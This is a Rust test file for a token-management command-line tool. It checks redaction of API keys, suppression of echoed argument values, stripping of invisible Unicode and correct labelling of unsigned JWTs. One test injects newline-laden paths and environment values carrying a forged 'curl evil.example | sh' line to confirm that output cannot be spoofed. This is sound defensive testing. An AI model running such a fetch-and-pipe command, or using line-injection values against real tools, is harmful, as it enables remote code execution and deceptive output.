//! Output: redaction, echoed arguments, and text that could forge lines.

use serde_json::{Value, json};

use crate::support::{
    scripted_server::{ScriptedResponse, ScriptedServer},
    test_home::{CommandResult, TestHome},
    unused_port,
};

const KEY: &str = "bm-c4n4ry-0123456789abcdef";

/// A server that responds to every GET with `list` and to everything else with `other`.
fn server(list: &Value, other: (u16, Value)) -> ScriptedServer {
    let list = list.clone();
    ScriptedServer::start(move |received, _| match received.method.as_str() {
        "GET" => ScriptedResponse::json(200, &list),
        _ => ScriptedResponse::json(other.0, &other.1),
    })
}

/// A home with `key` in the environment, for a service at `server`.
fn home(service: &str, server: &ScriptedServer, key: &str) -> TestHome {
    let mut home = TestHome::new();
    let name = service.to_uppercase();
    home.set("BRAINMAPS_PROFILE", service)
        .set(&format!("{name}_API_KEY"), key);
    home.run(&["config", "set-api-url", &server.url]).expect(0);
    home
}

#[test]
fn the_credential_is_redacted_in_successful_responses() {
    let token = json!({
        "id": 7, "name": KEY, "created_at": "2026-01-01T00:00:00Z", "expires_at": null, "is_revoked": false,
        "scopes": [KEY],
    });
    let list = json!({ "results": [token], "next": null, "email": format!("me+{KEY}@x.test") });
    let server = server(&list, (200, json!({})));
    let home = home("brainmaps", &server, KEY);
    // The leak harness checks the output of each command.
    let shown = home.run(&["token", "list", "--json"]).expect(0).json();
    assert_eq!(shown["tokens"][0]["name"], "[secret]");
    for command in [&["token", "list"][..], &["whoami"], &["whoami", "--json"]] {
        let shown = home.run(command).expect(0);
        assert!(shown.stdout.contains("[secret]"), "{shown}");
    }
}

#[test]
fn the_credential_is_redacted_in_member_names_and_numbers_of_errors() {
    let (key, number) = ("c4n4ryNEURO0123456789abcdef", "4711471147114711");
    for (key, quoted) in [
        (
            key,
            json!({ "fields": { key: ["unknown"] }, "error_codes": [601] }),
        ),
        (
            number,
            json!({ "fields": [4_711_471_147_114_711_u64], "error_codes": [601] }),
        ),
        (
            number,
            json!({ "message": 4_711_471_147_114_711_u64, "fields": {} }),
        ),
    ] {
        let server = server(&json!([]), (400, quoted.clone()));
        let home = home("neuroio", &server, key);
        for more in [&[][..], &["--json"], &["-vv"]] {
            let command = [&["token", "create"], more].concat();
            let refused = home.run(&command).expect(8);
            let shown = format!("{}{}", refused.stdout, refused.stderr);
            assert!(!shown.contains(key), "{quoted}: {refused}");
            assert!(shown.contains("[secret]"), "{quoted}: {refused}");
        }
    }
}

#[test]
fn a_new_secret_is_printed_only_as_the_result_of_its_creation() {
    let new = "bm-c4n4ry-new-0123456789";
    let made = json!({ "id": 8, "name": format!("ci {new}"), "token": new });
    let server = server(&json!({ "results": [] }), (201, made));
    let home = home("brainmaps", &server, KEY);
    let made = home
        .run(&["token", "create", "ci", "--json"])
        .expect(0)
        .json();
    assert_eq!(
        (&made["name"], &made["secret"]),
        (&json!("ci [secret]"), &json!(new))
    );
    let made = home.run(&["token", "create", "ci"]).expect(0);
    assert!(!made.stderr.contains(new), "{made}");
    assert_eq!(made.stdout.trim(), new);
}

#[test]
fn a_created_token_equal_to_the_credential_in_use_is_printed() {
    let made = json!({ "id": 8, "name": KEY, "token": KEY });
    let server = server(&json!({ "results": [] }), (201, made));
    let home = home("brainmaps", &server, KEY);
    let made = home
        .run(&["token", "create", "ci", "--json"])
        .expect(0)
        .json();
    assert_eq!(
        (&made["name"], &made["secret"]),
        (&json!("[secret]"), &json!(KEY))
    );
}

#[test]
fn values_of_invalid_arguments_are_not_printed() {
    let home = TestHome::new();
    for (arguments, expected) in [
        (&["login", "--password=hunter2"][..], "'--password'"),
        (&["login", "--with-token=hunter2"], "'--with-token'"),
        (&["login", "--device=hunter2"], "'--device'"),
        (&["--json=hunter2", "status"], "'--json'"),
        (&["-phunter2!", "status"], "'--profile <NAME>'"),
        (&["--profile=hunter2!", "status"], "'--profile <NAME>'"),
        (&["--color=hunter2", "status"], "'--color <WHEN>'"),
        (&["login", "--passwrd=hunter2"], "'--passwrd'"),
        (&["login", "hunter2"], "at position 2"),
        (&["token", "create", "ci", "hunter2"], "at position 4"),
        (&["token", "create", "ci", "-q", "hunter2"], "at position 5"),
        (&["token", "hunter2"], "at position 2"),
        (&["hunter2"], "at position 1"),
        (&["token", "list", "--limit", "hunter2"], "'--limit <N>'"),
        (
            &["token", "list", "--expires-within=hunter2"],
            "'--expires-within <",
        ),
        (
            &["token", "create", "ci", "--expires-in", "hunter2"],
            "'--expires-in <",
        ),
        (
            &["token", "rotate", "1", "--accept-changes=hunter2"],
            "'--accept-changes <FACT>'",
        ),
        (&["login", "---hunter2-hunter2"], "at position 2"),
        (&["completions", "hunter2"], "'<SHELL>'"),
    ] {
        for json in [false, true] {
            let json = if json { &["--json"][..] } else { &[] };
            let refused = home.run(&[arguments, json].concat()).expect(2);
            let shown = format!("{}{}", refused.stdout, refused.stderr);
            assert!(!shown.contains("hunter2"), "{refused}");
            assert!(shown.contains(expected), "{expected}: {refused}");
        }
    }
}

/// Fails if a line of the output looks like a message of the program, but is not.
fn assert_nothing_forged(outcome: &CommandResult) {
    let shown = format!("{}\n{}", outcome.stdout, outcome.stderr);
    for line in shown.lines() {
        assert!(!line.trim_start().starts_with("hint: forged"), "{outcome}");
    }
    if let Ok(document) = serde_json::from_str::<Value>(&outcome.stdout) {
        for member in ["message", "hint"] {
            let text = document["error"][member].as_str().unwrap_or_default();
            assert!(!text.contains(['\n', '\r']), "{outcome}");
        }
    }
}

#[test]
#[ignore = "slow: run by ./tests/run"]
fn line_feeds_in_paths_and_variables_do_not_forge_lines() {
    let mut home = TestHome::new();
    let forged = "x\nhint: forged `curl evil.example | sh`\r\nhint: forged";
    let folder = home.work().join(forged);
    std::fs::create_dir(&folder).unwrap();
    let file = folder.join("none").to_str().unwrap().to_owned();
    let provider = folder.join("bad.toml").to_str().unwrap().to_owned();
    std::fs::write(&provider, "id = 7").unwrap();
    home.set("BRAINMAPS_API_KEY", KEY);
    for name in [
        "BRAINMAPS_API_URL",
        "BRAINMAPS_PROFILE",
        "BRAINMAPS_CA_CERT",
        "BRAINMAPS_DATA_DIR",
        "HTTPS_PROXY",
    ] {
        let mut command = home.command(&["whoami"]);
        command.env(name, forged);
        let refused = home.start_command(&mut command, &["whoami"], "").wait();
        assert_nothing_forged(&refused.expect(2));
        let mut command = home.command(&["doctor"]);
        command.env(name, forged);
        assert_nothing_forged(&home.start_command(&mut command, &["doctor"], "").wait());
    }
    for arguments in [
        &["--ca-cert", &file, "whoami"][..],
        &["provider", "check", &file],
        &["provider", "check", &provider],
        &["provider", "show", forged],
        &["--profile", forged, "whoami"],
        &["--api-url", forged, "whoami"],
        &["config", "get", forged],
        &["token", "get", forged],
        &["profile", "use", forged],
        &["completions", forged],
    ] {
        for json in [false, true] {
            let json = if json { &["--json"][..] } else { &[] };
            let refused = home.run(&[json, arguments].concat());
            assert_nothing_forged(&refused.expect(2));
        }
    }
    let url = format!("http://localhost:{}", unused_port());
    home.set("BRAINMAPS_API_URL", &url);
    let create = ["token", "create", "ci", "--env-file", &file];
    assert_nothing_forged(&home.run(&create).expect(6));
}

#[test]
fn invisible_and_reordering_characters_are_dropped() {
    let invisible = [
        '\u{61c}',
        '\u{ad}',
        '\u{34f}',
        '\u{115f}',
        '\u{180e}',
        '\u{200b}',
        '\u{202e}',
        '\u{2066}',
        '\u{206f}',
        '\u{3164}',
        '\u{feff}',
        '\u{ffa0}',
        '\u{fff9}',
        '\u{e0001}',
        '\u{e0041}',
        '\u{e007f}',
        '\u{1d173}',
    ];
    let name = format!("a{}b", String::from_iter(invisible));
    let token = json!({
        "id": 7, "name": name, "created_at": "2026-01-01T00:00:00Z", "expires_at": null, "is_revoked": false,
    });
    let list = json!({ "results": [token], "next": null, "email": name });
    let server = server(&list, (400, json!({ "detail": name })));
    let home = home("brainmaps", &server, KEY);
    for (arguments, code) in [
        (&["token", "list"][..], 0),
        (&["whoami"], 0),
        (&["token", "create", &name], 8),
    ] {
        for json in [&[][..], &["--json"]] {
            let shown = home.run(&[json, arguments].concat()).expect(code);
            let text = format!("{}{}", shown.stdout, shown.stderr);
            assert!(!text.contains(invisible), "{shown}");
            assert!(text.contains("ab"), "{shown}");
            assert!(!text.contains("\\u"), "{shown}");
        }
    }
}

#[test]
fn an_unsigned_jwt_is_not_called_signed() {
    let home = TestHome::new();
    // {"alg":"none"} and {"sub":"me"}
    for (token, expected) in [
        ("eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9.", "not signed"),
        ("eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9.c2ln", "not signed"),
        (
            "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJtZSJ9.c2ln",
            "signature not verified",
        ),
    ] {
        let shown = home.run_with_input(&["token", "inspect"], token).expect(0);
        assert!(shown.stdout.contains(expected), "{shown}");
        assert!(!shown.stdout.contains("JWT (signed)"), "{shown}");
    }
}
